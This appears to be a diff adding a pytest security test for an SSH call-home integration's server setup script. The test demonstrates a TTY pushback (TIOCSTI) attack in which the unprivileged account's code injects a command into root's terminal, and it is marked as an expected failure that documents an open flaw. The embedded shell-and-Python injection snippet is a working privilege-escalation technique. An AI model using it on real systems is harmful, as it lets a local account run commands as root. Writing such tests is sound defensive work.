@@ -1,0 +1,154 @@
+"""Attack on the server script's privilege drop through root's terminal.
+
+The script writes in the home as the account (setpriv, runuser or su), but the process it starts
+stays in root's session: root's terminal is still its controlling terminal. Any process of the
+account may ptrace its other processes (this kernel has no Yama; Debian's default is the same),
+so the account can run code in that one, and such code can open /dev/tty and push characters
+into root's shell with TIOCSTI: the shell runs them as root once the script ends (the su/sudo
+"TTY pushback" attack). Here a stand-in command on the PATH does what the injected code would
+do, from inside the process the script runs as the account.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pty
+import select
+import signal
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import asyncssh
+import pytest
+
+from custom_components.ssh_callhome.engine.keys import authorized_keys_line
+from custom_components.ssh_callhome.engine.server_hello import ServerSoftware
+from custom_components.ssh_callhome.engine.server_script import setup_script
+from custom_components.ssh_callhome.engine.server_setup import server_settings
+from harness.network import LOOPBACK
+from harness.server_script import (
+    create_account,
+    folder_for_accounts,
+    path_without,
+    throwaway_account,
+)
+
+_COMMENT = "ssh_callhome@terminal"
+# In the order the script tries them: hiding the ones before a runner makes the script use it.
+# util-linux's su (the third) starts a session of its own for -c, so it is not attacked here.
+_RUNNERS = ("setpriv", "runuser")
+# A Python the account can run (the test's own virtualenv may sit in a folder it cannot read).
+_SYSTEM_PYTHON = Path("/usr/bin/python3")
+_LEGACY_TIOCSTI = Path("/proc/sys/dev/tty/legacy_tiocsti")
+# The script runs for a second or two; the shell then reads what was pushed at once.
+_SCRIPT_SECONDS = 20.0
+_READ_CHUNK = 4096
+_PROMPT = "ssh_callhome-test-root-prompt# "
+# The last line the script prints here (its Match block, since the config has no Include).
+_LAST_LINE = b"ClientAliveCountMax"
+# What the account's code does: push a command into the terminal's input, then let the real
+# mktemp (the script's next step, run only when the key is not yet in place) go on.
+_PUSH_COMMAND = """#!/bin/sh
+{python} - <<'PY' || true
+import fcntl, os, termios
+try:
+    terminal = os.open("/dev/tty", os.O_RDWR)
+except OSError:
+    terminal = 2
+for byte in b"touch {marker}\\n":
+    fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
+PY
+exec {mktemp} "$@"
+"""
+
+
+def _script(key: asyncssh.SSHKey, account: str) -> str:
+    line = authorized_keys_line(key, LOOPBACK, [8123], _COMMENT, ServerSoftware.OPENSSH)
+    settings = server_settings(ServerSoftware.OPENSSH, account, LOOPBACK, [8123])
+    return setup_script(ServerSoftware.OPENSSH, account, key, line, settings)
+
+
+@pytest.fixture
+def accounts_folder() -> Iterator[Path]:
+    with folder_for_accounts() as folder:
+        yield folder
+
+
+def _read_until(terminal: int, pid: int, wanted: bytes) -> bytes:
+    """What the root shell prints until `wanted` appears or it exits (bounded in time)."""
+    output = b""
+    deadline = time.monotonic() + _SCRIPT_SECONDS
+    while wanted not in output and time.monotonic() < deadline:
+        readable, _, _ = select.select([terminal], [], [], 0.1)
+        if readable:
+            try:
+                output += os.read(terminal, _READ_CHUNK)
+            except OSError:  # the shell has gone: its side of the terminal is closed
+                break
+        if os.waitpid(pid, os.WNOHANG)[0]:
+            break
+    return output
+
+
+def _paste_into_root_terminal(script_file: Path, environment: dict[str, str]) -> bytes:
+    """An interactive root shell on a terminal of its own, where the user pastes the script
+    (here: sources a file holding it), then types `exit` at the prompt that follows it."""
+    environment = {**os.environ, **environment, "PS1": _PROMPT}
+    pid, terminal = pty.fork()
+    if pid == 0:  # the child: the root shell on the terminal's other side
+        os.execvpe("sh", ["sh", "-i"], environment)
+    try:
+        os.write(terminal, f". {script_file}\n".encode())
+        output = _read_until(terminal, pid, _LAST_LINE)
+        output += _read_until(terminal, pid, _PROMPT.encode())
+        # Whatever was pushed into the terminal meanwhile is read before this.
+        os.write(terminal, b"exit\n")
+        output += _read_until(terminal, pid, b"\0")  # until the shell has exited
+        return output
+    finally:
+        os.close(terminal)
+        with contextlib.suppress(ChildProcessError):
+            if not os.waitpid(pid, os.WNOHANG)[0]:
+                os.kill(pid, signal.SIGKILL)
+                os.waitpid(pid, 0)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the process the script runs as the account stays in root's session, with root's "
+    "terminal as its controlling terminal: the account's code there pushes a command into "
+    "root's shell (TIOCSTI), which root then runs",
+)
+@pytest.mark.parametrize("runner", _RUNNERS)
+def test_the_account_cannot_type_into_roots_terminal(
+    client_key: asyncssh.SSHKey, tmp_path: Path, accounts_folder: Path, runner: str
+) -> None:
+    if not _SYSTEM_PYTHON.exists():
+        pytest.skip(f"{_SYSTEM_PYTHON} is needed to push characters into a terminal")
+    if _LEGACY_TIOCSTI.exists() and _LEGACY_TIOCSTI.read_text().strip() == "0":
+        pytest.skip("this kernel refuses TIOCSTI to every unprivileged process")
+    marker = tmp_path / "typed-by-the-account"
+    probe = accounts_folder / "probe"
+    probe.mkdir(mode=0o755)
+    push = probe / "mktemp"
+    push.write_text(
+        _PUSH_COMMAND.format(python=_SYSTEM_PYTHON, marker=marker, mktemp="/usr/bin/mktemp")
+    )
+    push.chmod(0o755)
+    hidden = set(_RUNNERS[: _RUNNERS.index(runner)])
+    config = tmp_path / "sshd_config"
+    config.write_text("Port 22\n")  # no Include: the script only prints the Match block
+    with throwaway_account() as name:
+        create_account(name, "/usr/sbin/nologin")
+        script_file = tmp_path / "script.sh"
+        script_file.write_text(_script(client_key, name))
+        path = f"{probe}:{path_without(hidden, accounts_folder / 'bin')}"
+        output = _paste_into_root_terminal(
+            script_file,
+            {"PATH": path, "SSHD_CONFIG": str(config), "SSHD_CONFIG_DIR": str(tmp_path)},
+        )
+        print(output.decode(errors="replace"))
+        assert b"key line of this tunnel installed" in output, "the script did not get there"
+    assert not marker.exists(), "a command the account typed ran in root's shell, as root"
